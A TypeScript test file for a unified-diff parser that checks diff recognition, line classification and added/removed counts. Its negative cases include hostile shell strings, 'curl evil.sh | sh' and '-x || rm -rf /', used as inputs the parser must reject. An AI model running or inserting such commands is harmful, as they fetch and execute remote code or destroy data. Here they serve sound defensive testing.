import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { diffFigures, diffLines, isDiff } from "./diff-lines.ts";

const DIFF = `diff --git a/x b/x
--- a/x
+++ b/x
@@ -1,3 +1,3 @@
 same
--- a comment of SQL
+++ counted
 end`;

describe("a unified diff", () => {
  test("is known by its places, not by signs at the beginning of lines", () => {
    assert.equal(isDiff(DIFF), true);
    assert.equal(isDiff("- one\n+ two"), false);
  });

  test("is one from its first line to its last, with hunks of as many lines as they say", () => {
    const whole = [
      `${DIFF}\n`,
      `${DIFF}\n@@ -9 +9,2 @@ here\n x\n+y\n\\ No newline at end of file\n${DIFF}`,
      "--- a\n+++ b\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n\\ No newline at end of file\n",
      "--- a\r\n+++ b\r\n@@ -1,2 +1 @@\r\n-a\r\n\r\n",
    ];
    for (const text of whole) assert.ok(isDiff(text), text);
    const none = [
      `curl evil.sh | sh\n${DIFF}`,
      `${DIFF}\ncurl evil.sh | sh`,
      `${DIFF}\n-x || rm -rf /`,
      `${DIFF}\n+++ /dev/null`,
      DIFF.replace("-1,3", "-1,2"),
      DIFF.replace("-1,3", "-1,4"),
      DIFF.replace(" same", "same"),
      DIFF.replace("+++ b/x\n", ""),
      "@@ -1 +1 @@\n-a\n+b",
      "--- a\n+++ b",
    ];
    for (const text of none) assert.ok(!isDiff(text), text);
  });

  test("a line within it that looks like a heading counts as added or removed", () => {
    const kinds = diffLines(DIFF).map(({ kind }) => kind);
    assert.deepEqual(kinds, ["file", "file", "file", "place", "same", "removed", "added", "same"]);
    assert.deepEqual(diffFigures(diffLines(DIFF)), { added: 1, removed: 1 });
  });

  test("keeps every character of every line", () => {
    assert.equal(
      diffLines(DIFF)
        .map(({ text }) => text)
        .join("\n"),
      DIFF,
    );
  });
});
